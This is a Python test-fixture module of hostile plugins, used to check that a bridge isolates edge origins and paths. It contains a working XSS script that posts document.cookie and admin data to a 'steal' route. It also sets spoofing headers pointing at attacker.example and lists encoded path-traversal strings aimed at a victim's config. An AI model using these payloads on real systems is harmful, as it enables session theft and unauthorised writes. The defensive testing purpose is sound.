"""Plugins that play a hostile (or compromised) edge, for tests/security and tests/ui.

Import specs (``hostile_plugins:PluginHostile`` ...) work wherever tests/support is on the
path (``tests.conftest.support_env``); nothing needs registering.
"""

from __future__ import annotations

from typing import Any

from fastapi import Request
from starlette.responses import JSONResponse, Response

from isthmus import Plugin

COOKIE = "isthmus_session"
# Would, if it ran with the bridge's origin: rename the tab, read the admin's view of the
# bridge and post it back to this edge, and ask the bridge to stop.
SCRIPT = ("document.title='pwned';window.__hostile=1;"
          "fetch('/edge/list').then(r=>r.text()).then(t=>fetch(location.pathname.replace(/[^/]*$/,'steal'),"
          "{method:'POST',body:'ran:'+document.cookie+':'+t}));")
PAGE = f"<!doctype html><title>hostile</title><h1>hi</h1><script>{SCRIPT}</script>".encode()
SVG = (f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script>'
       '<circle r="5"/></svg>').encode()
JS = b"window.__hostile_js = 1; document.title = 'pwned by script';"
# Everything an edge might use to act as the bridge's site, on one answer.
LOUD_HEADERS = {
    "Set-Cookie": f"{COOKIE}=planted-by-edge; Path=/; SameSite=Strict",
    "set-cookie2": f"{COOKIE}=planted2",
    "Content-Security-Policy": "default-src * 'unsafe-inline'",
    "Content-Security-Policy-Report-Only": "default-src *",
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Credentials": "true",
    "Strict-Transport-Security": "max-age=31536000; includeSubDomains",
    "Clear-Site-Data": '"cookies", "storage"',
    "Refresh": "0; url=https://attacker.example/",
    "Link": "<https://attacker.example/x.css>; rel=stylesheet",
    "X-Frame-Options": "ALLOWALL",
    "Content-Disposition": "inline",
    "Service-Worker-Allowed": "/",
    "WWW-Authenticate": 'Basic realm="bridge"',
    "X-Edge-Own": "kept",
}


class PluginHostile(Plugin):
    """Answers that try to be pages, scripts and cookies of the bridge's origin."""

    plugin_name = "hostile"
    title = "Hostile"

    def __init__(self, app: Any = None, instance_name: str | None = None) -> None:
        super().__init__(app, instance_name)
        self.stolen: list[str] = []
        for path, handler in (("page", self.page), ("svg", self.svg), ("evil.js", self.script),
                              ("data", self.data), ("stolen", self.report), ("redirect", self.redirect),
                              ("big", self.big)):
            self.add_route_get(path, handler)
        self.add_route_post("steal", self.steal)

    async def page(self, request: Request) -> Response:
        return Response(PAGE, media_type="text/html; charset=utf-8", headers=LOUD_HEADERS)

    async def svg(self, request: Request) -> Response:
        return Response(SVG, media_type="image/svg+xml", headers={"Content-Disposition": "inline"})

    async def script(self, request: Request) -> Response:
        return Response(JS, media_type="text/javascript")

    async def data(self, request: Request) -> Response:
        return JSONResponse({"plain": "data"}, headers=LOUD_HEADERS)

    async def big(self, request: Request) -> Response:
        """Above the inline limit, so the answer streams (the other relay path)."""
        return Response(PAGE + b"<!--" + b"x" * 400_000 + b"-->", media_type="text/html",
                        headers=LOUD_HEADERS)

    async def redirect(self, request: Request) -> Response:
        to = request.query_params.get("to", "/hostile/data")
        return Response(status_code=307, headers={"Location": to})

    async def steal(self, request: Request) -> dict[str, Any]:
        self.stolen.append((await request.body()).decode(errors="replace")[:200])
        return {"ok": True}

    async def report(self, request: Request) -> dict[str, Any]:
        return {"stolen": self.stolen}


# Endpoints that would leave /{edge}/sneaky/ for /victim/recorder/..., in several spellings.
ESCAPES = [
    "../../victim/recorder/hit",
    "%2e%2e/%2E%2e/victim/recorder/hit",
    ".%2e/..%2F../victim/recorder/hit",
    "..\\..\\victim\\recorder\\hit",
    "//127.0.0.1/victim/recorder/hit",
    "/victim/recorder/hit",
    "..\t/..\n/victim/recorder/hit",
]
HOSTILE_UI: dict[str, Any] = {
    "title": "Sneaky",
    "forms": [
        # the review's finding: one admin click sent a PUT to another edge's config
        {"id": "cfg", "title": "Save", "fields": [{"name": "color", "default": "blue"}],
         "submit": {"label": "Save", "endpoint": "../../victim/_edge/plugins/recorder/config", "method": "PUT"}},
        # no submit endpoint: the Explorer's default is "{id}/{sid}"
        {"id": "../../victim/recorder/hit?x=", "title": "By id", "fields": []},
        {"id": "opts", "title": "Options", "fields": [
            {"name": "pick", "type": "select", "options_endpoint": "../../victim/recorder/hit"}],
         "submit": {"endpoint": "fine/{sid}"}},
    ],
    "monitors": [
        *[{"id": f"m{i}", "title": f"escape {i}", "type": "raw", "endpoint": e} for i, e in enumerate(ESCAPES)],
        {"id": "sid", "title": "sid escape", "type": "raw", "endpoint": "status/{sid}"},
        {"id": "ok", "title": "Version", "type": "raw", "endpoint": "version"},
    ],
}


class PluginSneaky(Plugin):
    """A compromised edge's plugin behind an honest-looking manifest: its session ids are paths.

    The UI tests pin its manifest to HOSTILE_UI in the browser (``page.route``), so the
    Explorer is checked on its own, whatever the bridge does with such manifests.
    """

    plugin_name = "sneaky"
    title = "Sneaky"

    def __init__(self, app: Any = None, instance_name: str | None = None) -> None:
        super().__init__(app, instance_name)
        self.add_route_post("fine/{sid}", self.fine)

    async def register_session(self, request: Request) -> Response:
        return JSONResponse({"sid": "../../victim/recorder/hit"})

    async def fine(self, request: Request) -> dict[str, Any]:
        return {"ok": True}


class PluginLiar(PluginSneaky):
    """A modified edge: announces HOSTILE_UI, bypassing the edge's own check by writing the
    ui_config after ``Plugin.manifest`` has checked it."""

    plugin_name = "liar"
    title = "Liar"

    def manifest(self) -> dict[str, Any]:
        info = super().manifest()
        info["ui_config"] = HOSTILE_UI
        return info


class PluginRecorder(Plugin):
    """The victim edge's plugin: remembers every request that reached it."""

    plugin_name = "recorder"
    title = "Recorder"

    def __init__(self, app: Any = None, instance_name: str | None = None) -> None:
        super().__init__(app, instance_name)
        self.hits: list[str] = []
        for method in (self.add_route_get, self.add_route_post, self.add_route_put):
            method("hit", self.hit)
        self.add_route_get("hits", self.report)

    async def hit(self, request: Request) -> dict[str, Any]:
        self.hits.append(f"{request.method} {request.url.path}?{request.url.query}")
        return {"hit": True}

    async def report(self, request: Request) -> dict[str, Any]:
        return {"hits": self.hits}


class PluginBadEndpoint(Plugin):
    """An honest plugin with a mistake: the edge must refuse to load it, naming it."""

    plugin_name = "badendpoint"
    ui_config = {"monitors": [{"id": "m", "type": "raw", "endpoint": "../other/thing"}]}
